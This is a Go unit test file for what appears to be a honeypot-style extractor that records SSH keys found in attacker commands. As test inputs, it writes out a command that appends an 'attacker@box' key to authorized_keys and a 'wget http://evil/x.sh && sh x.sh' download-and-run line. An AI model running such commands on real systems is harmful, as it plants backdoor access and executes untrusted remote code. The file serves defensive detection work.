package sshkey

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type recordedObservation struct {
	sessionID, keyHash, keyType, fingerprint, comment, targetPath, extractionMethod string
	keyBits                                                                         *int
}

type fakeStore struct {
	observations []recordedObservation
	err          error
}

func (f *fakeStore) RecordSSHKeyObservation(ctx context.Context, sessionID string, keyHash, keyType, fingerprint, comment, targetPath, extractionMethod string, keyBits *int) error {
	if f.err != nil {
		return f.err
	}
	f.observations = append(f.observations, recordedObservation{sessionID, keyHash, keyType, fingerprint, comment, targetPath, extractionMethod, keyBits})
	return nil
}

func TestProcessCommand_RecordsEachExtractedKey(t *testing.T) {
	store := &fakeStore{}
	e := New(store)

	cmd := `echo "ssh-ed25519 ` + ed25519Pub + ` attacker@box" >> ~/.ssh/authorized_keys`
	n, err := e.ProcessCommand(t.Context(), "sess-1", cmd)
	require.NoError(t, err)
	assert.Equal(t, 1, n)
	require.Len(t, store.observations, 1)
	assert.Equal(t, "sess-1", store.observations[0].sessionID)
	assert.Equal(t, "ssh-ed25519", store.observations[0].keyType)
}

func TestProcessCommand_CommandWithoutKeyRecordsNothing(t *testing.T) {
	store := &fakeStore{}
	e := New(store)

	n, err := e.ProcessCommand(t.Context(), "sess-2", "wget http://evil/x.sh && sh x.sh")
	require.NoError(t, err)
	assert.Equal(t, 0, n)
	assert.Empty(t, store.observations)
}
